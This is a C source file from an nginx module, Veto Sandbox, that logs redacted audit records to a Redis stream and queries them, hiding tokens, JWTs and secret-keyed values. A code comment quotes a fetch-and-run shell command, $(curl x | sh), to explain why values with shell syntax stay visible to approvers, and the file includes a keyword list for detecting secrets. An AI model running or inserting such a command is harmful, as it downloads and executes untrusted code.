/*
 * Veto Sandbox: audit records in a Redis stream, their query, and the
 * redaction that keeps secrets out of them.
 * Contract: ngx_http_veto_sandbox_audit.h and docs/approvals.md.
 */

#include <ngx_config.h>
#include <ngx_core.h>
#include <ngx_http.h>

#include "ngx_http_veto_sandbox_approval.h"
#include "ngx_http_veto_sandbox_audit.h"


#define NGX_HTTP_VSB_REDACTED  "[redacted]"


static void ngx_http_veto_sandbox_audit_logged(ngx_int_t rc,
    redisReply *reply, void *data);
static ngx_uint_t ngx_http_veto_sandbox_secret_key(u_char *p, size_t len);
static size_t ngx_http_veto_sandbox_match_ci(u_char *p, u_char *last,
    const char *word);
static json_t *ngx_http_veto_sandbox_redacted_copy(ngx_pool_t *pool,
    json_t *v, ngx_uint_t depth);
static json_t *ngx_http_veto_sandbox_redacted_string(ngx_pool_t *pool,
    const char *s, size_t len);


/* KEYS: stream
 * ARGV: newest id or '+', oldest id or '-', max results, agent or '',
 *       sandbox or '', max entries scanned */
static const char ngx_http_veto_sandbox_audit_query_lua[] =
    "local want = tonumber(ARGV[3]) or 100\n"
    "local budget = tonumber(ARGV[6]) or 10000\n"
    "local out = {}\n"
    "local hi = ARGV[1]\n"
    "while #out < want and budget > 0 do\n"
    "  local n = 200\n"
    "  if n > budget then n = budget end\n"
    "  local batch = redis.call('XREVRANGE', KEYS[1], hi, ARGV[2], 'COUNT', n)\n"
    "  if #batch == 0 then break end\n"
    "  budget = budget - #batch\n"
    "  for _, e in ipairs(batch) do\n"
    "    local ok = true\n"
    "    local fl = e[2]\n"
    "    local agent, sandbox = '', ''\n"
    "    for i = 1, #fl, 2 do\n"
    "      if fl[i] == 'agent' then agent = fl[i + 1] end\n"
    "      if fl[i] == 'sandbox' then sandbox = fl[i + 1] end\n"
    "    end\n"
    "    if ARGV[4] ~= '' and agent ~= ARGV[4] then ok = false end\n"
    "    if ARGV[5] ~= '' and sandbox ~= ARGV[5] then ok = false end\n"
    "    if ok and #out < want then table.insert(out, e) end\n"
    "  end\n"
    "  if #batch < n then break end\n"
    "  hi = '(' .. batch[#batch][1]\n"
    "end\n"
    "return out\n"
    ;

static ngx_http_veto_sandbox_redis_script_t  ngx_http_veto_sandbox_audit_script
    = { "audit_query", ngx_http_veto_sandbox_audit_query_lua, "" };


static const char  *ngx_http_veto_sandbox_secret_words[] = {
    "password", "passwd", "secret", "token", "apikey", "api_key", "api-key",
    "authorization", "credential", "private", "access_key", "session",
    "cookie", NULL
};


static size_t
ngx_http_veto_sandbox_match_ci(u_char *p, u_char *last, const char *word)
{
    size_t  n;

    n = ngx_strlen(word);

    if ((size_t) (last - p) < n
        || ngx_strncasecmp(p, (u_char *) word, n) != 0)
    {
        return 0;
    }

    return n;
}


/* "Bearer " or "Basic " at p: its length, else 0 */
static size_t
ngx_http_veto_sandbox_scheme(u_char *p, u_char *last)
{
    size_t  n;

    n = ngx_http_veto_sandbox_match_ci(p, last, "bearer ");

    return n ? n : ngx_http_veto_sandbox_match_ci(p, last, "basic ");
}


static ngx_uint_t
ngx_http_veto_sandbox_secret_key(u_char *p, size_t len)
{
    u_char      *s, *last;
    ngx_uint_t   i;

    last = p + len;

    for (s = p; s < last; s++) {
        for (i = 0; ngx_http_veto_sandbox_secret_words[i]; i++) {
            if (ngx_http_veto_sandbox_match_ci(s, last,
                                        ngx_http_veto_sandbox_secret_words[i]))
            {
                return 1;
            }
        }
    }

    return 0;
}


#define ngx_http_vsb_b64url(c)                                                \
    (((c) >= 'A' && (c) <= 'Z') || ((c) >= 'a' && (c) <= 'z')                 \
     || ((c) >= '0' && (c) <= '9') || (c) == '-' || (c) == '_')

#define ngx_http_vsb_keychar(c)                                               \
    (ngx_http_vsb_b64url(c) || (c) == '.')


/*
 * Writes "[redacted]" for the value s..last, unless it could run
 * something: the same text is the approval summary a human decides on,
 * and "password=\"$(curl x | sh)\"" in an argv must be seen, not hidden.
 * Errs on showing a password that contains shell syntax.
 */
static u_char *
ngx_http_veto_sandbox_hide(u_char *d, u_char *s, u_char *last)
{
    u_char  *p;

    if (s == last) {
        return d;
    }

    for (p = s; p < last; p++) {
        switch (*p) {
        case '$': case '`': case '(': case ')': case '|': case ';':
        case '&': case '<': case '>': case '\n': case '{': case '}':
            return ngx_cpymem(d, s, last - s);
        }
    }

    return ngx_cpymem(d, NGX_HTTP_VSB_REDACTED,
                      sizeof(NGX_HTTP_VSB_REDACTED) - 1);
}


ngx_int_t
ngx_http_veto_sandbox_audit_redact(ngx_pool_t *pool, ngx_str_t *in,
    ngx_str_t *out)
{
    u_char      *p, *last, *d, *s, *k, q;
    size_t       n;
    ngx_uint_t   dots, word_start;

    /* each redaction replaces at least one byte with 10 */
    d = ngx_pnalloc(pool, in->len * 10 + 1);
    if (d == NULL) {
        return NGX_ERROR;
    }

    out->data = d;
    p = in->data;
    last = p + in->len;

    while (p < last) {
        word_start = (p == in->data || !ngx_http_vsb_keychar(p[-1]));

        if (!word_start) {
            *d++ = *p++;
            continue;
        }

        /* Bearer <token>, Basic <credentials> */

        n = ngx_http_veto_sandbox_scheme(p, last);

        if (n) {
            d = ngx_cpymem(d, p, n);
            p += n;

            while (p < last && *p == ' ') {
                *d++ = *p++;
            }

            s = p;
            while (p < last && *p != ' ' && *p != '"' && *p != '\''
                   && *p != ',' && *p != '\n' && *p != '\r')
            {
                p++;
            }

            d = ngx_http_veto_sandbox_hide(d, s, p);

            continue;
        }

        /* a JWT: eyJ<b64url>.<b64url>.<b64url> */

        if (last - p > 3 && ngx_strncmp(p, "eyJ", 3) == 0) {
            s = p;
            dots = 0;

            while (s < last && (ngx_http_vsb_b64url(*s) || *s == '.'))
            {
                dots += (*s == '.');
                s++;
            }

            if (dots >= 2) {
                d = ngx_cpymem(d, NGX_HTTP_VSB_REDACTED,
                               sizeof(NGX_HTTP_VSB_REDACTED) - 1);
                p = s;
                continue;
            }
        }

        /* key=value, key: value, "key": "value" with a secret-looking key */

        if (ngx_http_vsb_keychar(*p)) {
            k = p;

            while (p < last && ngx_http_vsb_keychar(*p)) {
                p++;
            }

            d = ngx_cpymem(d, k, p - k);

            if (!ngx_http_veto_sandbox_secret_key(k, p - k)) {
                continue;
            }

            s = p;

            if (s < last && (*s == '"' || *s == '\'')) {
                s++;
            }

            while (s < last && *s == ' ') {
                s++;
            }

            if (s == last || (*s != '=' && *s != ':')) {
                continue;
            }

            s++;

            while (s < last && *s == ' ') {
                s++;
            }

            q = 0;

            if (s < last && (*s == '"' || *s == '\'')) {
                q = *s++;
            }

            d = ngx_cpymem(d, p, s - p);
            p = s;

            if (q) {
                while (p < last && *p != q) {
                    p += (*p == '\\' && p + 1 < last) ? 2 : 1;
                }

            } else {
                /* "Authorization: Bearer x": keep the scheme, hide x */
                n = ngx_http_veto_sandbox_scheme(p, last);

                if (n) {
                    d = ngx_cpymem(d, p, n);
                    p += n;
                    s = p;
                }

                while (p < last && *p != '&' && *p != ',' && *p != ';'
                       && *p != ' ' && *p != '\t' && *p != '"'
                       && *p != '\'' && *p != '\n' && *p != '\r'
                       && *p != '}')
                {
                    p++;
                }
            }

            d = ngx_http_veto_sandbox_hide(d, s, p);

            continue;
        }

        *d++ = *p++;
    }

    out->len = d - out->data;
    *d = '\0';

    return NGX_OK;
}


static json_t *
ngx_http_veto_sandbox_redacted_string(ngx_pool_t *pool, const char *s,
    size_t len)
{
    ngx_str_t  in, out;

    in.data = (u_char *) s;
    in.len = len;

    if (ngx_http_veto_sandbox_audit_redact(pool, &in, &out) != NGX_OK) {
        return NULL;
    }

    return json_stringn((const char *) out.data, out.len);
}


/* a deep copy in which strings are redacted and secret keys hidden */
static json_t *
ngx_http_veto_sandbox_redacted_copy(ngx_pool_t *pool, json_t *v,
    ngx_uint_t depth)
{
    size_t       i;
    json_t      *c, *e;
    const char  *key;

    if (depth > 8) {
        return json_string("[too deep]");
    }

    switch (json_typeof(v)) {

    case JSON_STRING:
        return ngx_http_veto_sandbox_redacted_string(pool, json_string_value(v),
                                                     json_string_length(v));

    case JSON_ARRAY:
        c = json_array();

        json_array_foreach(v, i, e) {
            if (c == NULL
                || json_array_append_new(c,
                       ngx_http_veto_sandbox_redacted_copy(pool, e, depth + 1))
                   != 0)
            {
                json_decref(c);
                return NULL;
            }
        }

        return c;

    case JSON_OBJECT:
        c = json_object();

        json_object_foreach(v, key, e) {
            if (c == NULL) {
                return NULL;
            }

            if (ngx_http_veto_sandbox_secret_key((u_char *) key,
                                                 ngx_strlen(key)))
            {
                e = json_string(NGX_HTTP_VSB_REDACTED);

            } else {
                e = ngx_http_veto_sandbox_redacted_copy(pool, e, depth + 1);
            }

            if (json_object_set_new(c, key, e) != 0) {
                json_decref(c);
                return NULL;
            }
        }

        return c;

    default:
        return json_copy(v);
    }
}


/* stdin_bytes, and its head as text when it is UTF-8 ("stdin") */
static ngx_int_t
ngx_http_veto_sandbox_summary_stdin(ngx_pool_t *pool, json_t *sum,
    ngx_str_t *in)
{
    size_t   len, i;
    json_t  *v;

    if (json_object_set_new(sum, "stdin_bytes", json_integer(in->len)) != 0)
    {
        return NGX_ERROR;
    }

    len = ngx_min(in->len, 4096);

    /* a cut inside a UTF-8 sequence: back off to its start */
    for (i = 0; len < in->len && i < 3 && (in->data[len] & 0xc0) == 0x80;
         i++)
    {
        len--;
    }

    v = ngx_http_veto_sandbox_redacted_string(pool, (const char *) in->data,
                                              len);
    if (v == NULL) {
        return NGX_OK;          /* not text: the size says enough */
    }

    if (json_object_set_new(sum, "stdin", v) != 0
        || (len < in->len
            && json_object_set_new(sum, "stdin_truncated", json_true()) != 0))
    {
        return NGX_ERROR;
    }

    return NGX_OK;
}


ngx_int_t
ngx_http_veto_sandbox_audit_summary(ngx_pool_t *pool, ngx_str_t *action,
    json_t *body, ngx_str_t *in, ngx_str_t *path, off_t size,
    ngx_str_t *sha256, ngx_str_t *out)
{
    char         *text;
    size_t        i, len;
    json_t       *sum, *v, *names, *e;
    const char   *key, *eq, *s;
    ngx_int_t     rc;
    static const char  *keep[] = {
        "profile", "limits", "ttl_s", "network", "argv", "cwd", "timeout_s",
        NULL
    };

    rc = NGX_ERROR;
    names = NULL;

    sum = json_object();
    if (sum == NULL) {
        return NGX_ERROR;
    }

    if (json_object_set_new(sum, "action",
                            json_stringn((const char *) action->data,
                                         action->len))
        != 0)
    {
        goto done;
    }

    if (body && json_is_object(body)) {
        for (i = 0; keep[i]; i++) {
            v = json_object_get(body, keep[i]);
            if (v == NULL) {
                continue;
            }

            if (json_object_set_new(sum, keep[i],
                        ngx_http_veto_sandbox_redacted_copy(pool, v, 0))
                != 0)
            {
                goto done;
            }
        }

        /* env: names only, never values */

        v = json_object_get(body, "env");

        if (v) {
            names = json_array();
            if (names == NULL) {
                goto done;
            }

            if (json_is_object(v)) {
                json_object_foreach(v, key, e) {
                    if (json_array_append_new(names, json_string(key)) != 0) {
                        goto done;
                    }
                }

            } else if (json_is_array(v)) {
                json_array_foreach(v, i, e) {
                    s = json_string_value(e);
                    if (s == NULL) {
                        continue;
                    }

                    eq = strchr(s, '=');
                    len = eq ? (size_t) (eq - s) : ngx_strlen(s);

                    if (json_array_append_new(names, json_stringn(s, len))
                        != 0)
                    {
                        goto done;
                    }
                }
            }

            if (json_object_set(sum, "env_names", names) != 0) {
                goto done;
            }
        }
    }

    if (in && in->len
        && ngx_http_veto_sandbox_summary_stdin(pool, sum, in) != NGX_OK)
    {
        goto done;
    }

    if (path && path->len) {
        if (json_object_set_new(sum, "path",
                ngx_http_veto_sandbox_redacted_string(pool,
                                        (const char *) path->data, path->len))
            != 0)
        {
            goto done;
        }
    }

    if (size >= 0
        && json_object_set_new(sum, "size", json_integer(size)) != 0)
    {
        goto done;
    }

    if (sha256 && sha256->len
        && json_object_set_new(sum, "sha256",
                               json_stringn((const char *) sha256->data,
                                            sha256->len))
           != 0)
    {
        goto done;
    }

    text = json_dumps(sum, JSON_COMPACT | JSON_SORT_KEYS);
    if (text == NULL) {
        goto done;
    }

    out->len = ngx_strlen(text);
    out->data = ngx_pnalloc(pool, out->len + 1);

    if (out->data) {
        ngx_memcpy(out->data, text, out->len + 1);
        rc = NGX_OK;
    }

    free(text);

done:

    json_decref(names);
    json_decref(sum);

    return rc;
}


static void
ngx_http_veto_sandbox_audit_logged(ngx_int_t rc, redisReply *reply,
    void *data)
{
    ngx_http_veto_sandbox_redis_t  *rds = data;

    if (rc != NGX_OK) {
        ngx_log_error(NGX_LOG_ERR, rds->log, 0,
                      "veto_sandbox: audit record lost: redis %s",
                      rc == NGX_HTTP_GATEWAY_TIME_OUT ? "timed out"
                                                      : "unavailable");
        return;
    }

    if (reply->type == REDIS_REPLY_ERROR) {
        ngx_log_error(NGX_LOG_ERR, rds->log, 0,
                      "veto_sandbox: audit record refused by redis: %*s",
                      (size_t) reply->len, reply->str);
    }
}


ngx_int_t
ngx_http_veto_sandbox_audit_append(ngx_http_veto_sandbox_redis_call_t *call,
    ngx_uint_t maxlen, ngx_http_veto_sandbox_audit_rec_t *rec)
{
    int           argc;
    u_char       *p, *num, *start;
    ngx_tm_t      tm;
    ngx_str_t     red, key;
    ngx_uint_t    i;
    ngx_time_t   *tp;
    size_t        argvlen[40];
    const char   *argv[40];

    ngx_http_veto_sandbox_redis_call_t  logged;

    struct {
        const char  *name;
        ngx_str_t   *value;
        ngx_uint_t   redact;
    } fields[] = {
        { "tenant", &rec->tenant, 0 },
        { "agent", &rec->agent, 1 },
        { "action", &rec->action, 1 },
        { "outcome", &rec->outcome, 1 },
        { "reason", &rec->reason, 1 },
        { "request_hash", &rec->request_hash, 0 },
        { "approval", &rec->approval, 1 },
        { "reviewer", &rec->reviewer, 1 },
        { "sandbox", &rec->sandbox, 1 },
        { "request_id", &rec->request_id, 1 },
        { "detail", &rec->detail, 1 },
        { NULL, NULL, 0 }
    };

    if (!ngx_http_veto_sandbox_redis_key_part_valid(rec->tenant.data,
                                                    rec->tenant.len))
    {
        return NGX_DECLINED;
    }

    if (ngx_http_veto_sandbox_tenant_key(call->pool, &key, "audit",
                                         &rec->tenant, NULL)
        != NGX_OK)
    {
        return NGX_ERROR;
    }

    num = ngx_pnalloc(call->pool, NGX_INT_T_LEN * 2
                            + sizeof("1970-01-01T00:00:00.000Z"));
    if (num == NULL) {
        return NGX_ERROR;
    }

    argc = 0;

    argv[argc] = "XADD";
    argvlen[argc++] = 4;

    argv[argc] = (const char *) key.data;
    argvlen[argc++] = key.len;

    /* "~": trimming by whole macro nodes, cheap; the bound is approximate */
    argv[argc] = "MAXLEN";
    argvlen[argc++] = 6;
    argv[argc] = "~";
    argvlen[argc++] = 1;

    p = num;
    start = p;
    p = ngx_sprintf(p, "%ui", maxlen ? maxlen
                                     : NGX_HTTP_VSB_AUDIT_MAXLEN);
    argv[argc] = (const char *) start;
    argvlen[argc++] = p - start;

    argv[argc] = "*";
    argvlen[argc++] = 1;

    tp = ngx_timeofday();
    ngx_gmtime(tp->sec, &tm);

    argv[argc] = "time";
    argvlen[argc++] = 4;
    start = p;
    p = ngx_sprintf(p, "%4d-%02d-%02dT%02d:%02d:%02d.%03MZ",
                    tm.ngx_tm_year, tm.ngx_tm_mon, tm.ngx_tm_mday,
                    tm.ngx_tm_hour, tm.ngx_tm_min, tm.ngx_tm_sec, tp->msec);
    argv[argc] = (const char *) start;
    argvlen[argc++] = p - start;

    for (i = 0; fields[i].name; i++) {
        if (fields[i].value->len == 0) {
            continue;
        }

        red = *fields[i].value;

        if (fields[i].redact
            && ngx_http_veto_sandbox_audit_redact(call->pool, fields[i].value,
                                                  &red)
               != NGX_OK)
        {
            return NGX_ERROR;
        }

        argv[argc] = fields[i].name;
        argvlen[argc++] = ngx_strlen(fields[i].name);
        argv[argc] = (const char *) red.data;
        argvlen[argc++] = red.len;
    }

    if (rec->status) {
        argv[argc] = "status";
        argvlen[argc++] = 6;
        start = p;
        p = ngx_sprintf(p, "%i", rec->status);
        argv[argc] = (const char *) start;
        argvlen[argc++] = p - start;
    }

    if (call->handler == NULL) {
        logged = *call;
        logged.handler = ngx_http_veto_sandbox_audit_logged;
        logged.data = call->rds;
        call = &logged;
    }

    return ngx_http_veto_sandbox_redis_command(call, argc, argv, argvlen);
}


ngx_int_t
ngx_http_veto_sandbox_audit_query(ngx_http_veto_sandbox_redis_call_t *call,
    ngx_str_t *tenant, uint64_t from_ms, uint64_t to_ms, ngx_str_t *agent,
    ngx_str_t *sandbox, ngx_uint_t limit)
{
    u_char      *p;
    ngx_str_t    key;
    size_t       argvlen[7];
    const char  *argv[7];

    if (ngx_http_veto_sandbox_audit_script.sha1[0] == '\0'
        && ngx_http_veto_sandbox_redis_script_init(
                                   &ngx_http_veto_sandbox_audit_script)
           != NGX_OK)
    {
        return NGX_ERROR;
    }

    if (!ngx_http_veto_sandbox_redis_key_part_valid(tenant->data,
                                                    tenant->len))
    {
        return NGX_DECLINED;
    }

    if (ngx_http_veto_sandbox_tenant_key(call->pool, &key, "audit", tenant,
                                         NULL)
        != NGX_OK)
    {
        return NGX_ERROR;
    }

    p = ngx_pnalloc(call->pool, 4 * (NGX_INT64_LEN + 2));
    if (p == NULL) {
        return NGX_ERROR;
    }

    argv[0] = (const char *) key.data;
    argvlen[0] = key.len;

    /* stream ids are "<ms>-<seq>": a time range is an id range */

    argv[1] = (const char *) p;
    p = to_ms ? ngx_sprintf(p, "%uL", to_ms) : ngx_cpymem(p, "+", 1);
    argvlen[1] = p - (u_char *) argv[1];

    argv[2] = (const char *) p;
    p = from_ms ? ngx_sprintf(p, "%uL", from_ms) : ngx_cpymem(p, "-", 1);
    argvlen[2] = p - (u_char *) argv[2];

    argv[3] = (const char *) p;
    p = ngx_sprintf(p, "%ui", (limit && limit <= 1000) ? limit : 100);
    argvlen[3] = p - (u_char *) argv[3];

    argv[4] = agent ? (const char *) agent->data : "";
    argvlen[4] = agent ? agent->len : 0;
    argv[5] = sandbox ? (const char *) sandbox->data : "";
    argvlen[5] = sandbox ? sandbox->len : 0;

    argv[6] = "10000";
    argvlen[6] = 5;

    return ngx_http_veto_sandbox_redis_eval(call,
                                           &ngx_http_veto_sandbox_audit_script,
                                           1, 7, argv, argvlen);
}


json_t *
ngx_http_veto_sandbox_audit_to_json(redisReply *reply)
{
    size_t       i, j;
    json_t      *list, *obj;
    redisReply  *e, *f;

    if (reply == NULL || reply->type != REDIS_REPLY_ARRAY) {
        return NULL;
    }

    list = json_array();
    if (list == NULL) {
        return NULL;
    }

    for (i = 0; i < reply->elements; i++) {
        e = reply->element[i];

        if (e->type != REDIS_REPLY_ARRAY || e->elements != 2
            || e->element[0]->type != REDIS_REPLY_STRING
            || e->element[1]->type != REDIS_REPLY_ARRAY)
        {
            goto failed;
        }

        obj = json_object();
        if (obj == NULL || json_array_append_new(list, obj) != 0) {
            goto failed;
        }

        if (json_object_set_new(obj, "id", json_stringn(e->element[0]->str,
                                                        e->element[0]->len))
            != 0)
        {
            goto failed;
        }

        f = e->element[1];

        for (j = 0; j + 1 < f->elements; j += 2) {
            if (f->element[j]->type != REDIS_REPLY_STRING
                || f->element[j + 1]->type != REDIS_REPLY_STRING)
            {
                goto failed;
            }

            if (json_object_set_new(obj, f->element[j]->str,
                                    json_stringn(f->element[j + 1]->str,
                                                 f->element[j + 1]->len))
                != 0)
            {
                goto failed;
            }
        }
    }

    return list;

failed:

    json_decref(list);
    return NULL;
}
